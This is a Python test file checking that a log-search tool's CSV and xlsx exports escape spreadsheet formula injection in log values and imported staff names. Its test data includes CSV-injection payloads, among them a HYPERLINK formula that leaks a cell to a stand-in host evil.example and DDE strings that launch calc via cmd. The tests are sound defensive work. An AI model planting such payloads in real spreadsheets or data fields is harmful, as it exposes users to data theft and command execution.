"""Formula injection: ingested log values and imported names that a spreadsheet would run as a
formula are written as text in every xlsx and CSV mamori makes; numbers and dates stay typed."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from mamori.core.time import TOKYO
from mamori.events.search import audit_csv_chunks, audit_export, audit_query
from mamori.exports.tables import Column, TableExport, neutralise, table_xlsx
from mamori.terminals.eventgen import Row, at, store_events
from tests.conftest import make_city

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
MON = dt.date(2026, 10, 5)


def test_it_prefixes_every_formula_start_and_leaves_plain_text_alone():
    for value in HOSTILE:
        assert neutralise(value) == "'" + value
    for value in ("山田 太郎", "R-1", "2026-10-05", "", "a=b"):
        assert neutralise(value) == value


def test_it_writes_hostile_text_as_text_and_numbers_and_dates_typed_in_xlsx():
    export = TableExport(
        title="検査",
        columns=[Column("値"), Column("数"), Column("日付"), Column("日時")],
        rows=[
            *[(value, -2, dt.date(2026, 11, 16), None) for value in HOSTILE],
            ("普通", 3.5, None, dt.datetime(2026, 11, 16, 9, 30, tzinfo=TOKYO)),
        ],
        meta=[("条件", "=cmd|' /C calc'!A0")],
    )
    sheet = load_workbook(io.BytesIO(table_xlsx(export))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    for cell in cells:
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    # (XlsxWriter stores a CR as the escape _x000D_, which openpyxl gives back as it is.)
    texts = {cell.value.replace("_x000D_", "\r") for cell in cells if isinstance(cell.value, str)}
    assert {"'" + value for value in HOSTILE} <= texts
    assert "'=cmd|' /C calc'!A0" in texts
    numbers = [cell.value for cell in cells if cell.data_type == "n" and not cell.is_date]
    assert numbers.count(-2) == len(HOSTILE) and 3.5 in numbers
    dates = [cell.value for cell in cells if cell.is_date]
    assert {(d.year, d.month, d.day, d.hour, d.minute) for d in dates} >= {
        (2026, 11, 16, 0, 0),
        (2026, 11, 16, 9, 30),
    }


@pytest.fixture
def hostile_events(db):
    city = make_city("yanagawa")
    person = city.staff["310"][0]
    # Staff names come from the HR import: a hostile one reaches the 氏名 column of the exports.
    person.name = "=1+2"
    person.save(update_fields=["name"])
    rows = [
        Row(
            at(MON, "09:00") + dt.timedelta(minutes=i),
            "search",
            person.staff_number,
            host=value.replace("\t", " ").replace("\r", " ")[:100],
            system="SYS01",
            subject="R-9",
            action=value[:80],
            result_count=i,
        )
        for i, value in enumerate(HOSTILE)
    ]
    store_events(rows)
    return city


def test_it_neutralises_the_audit_search_csv_and_xlsx(hostile_events):
    query = audit_query(since="2026-10-01", until="2026-10-31", subject="R-9")
    text = "".join(audit_csv_chunks(query, pack=hostile_events.pack))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    body = rows[1:]
    assert len(body) == len(HOSTILE)
    for row in body:
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            assert not value.startswith("-"), row
    assert "'=1+2" in {row[4] for row in body}
    # (the ingest strips leading blanks, so "\t=1+1" arrives as "=1+1"; neutralised all the same)
    assert all(row[8].startswith("'") for row in body)
    assert {"'" + value for value in HOSTILE[:4]} <= {row[8] for row in body}
    assert {row[9] for row in body} == {str(i) for i in range(len(HOSTILE))}

    sheet = load_workbook(io.BytesIO(table_xlsx(audit_export(query, pack=hostile_events.pack)))).active
    values = [cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None]
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert "'=1+2" in values
    assert set(range(1, len(HOSTILE))) <= {v for v in values if isinstance(v, int)}
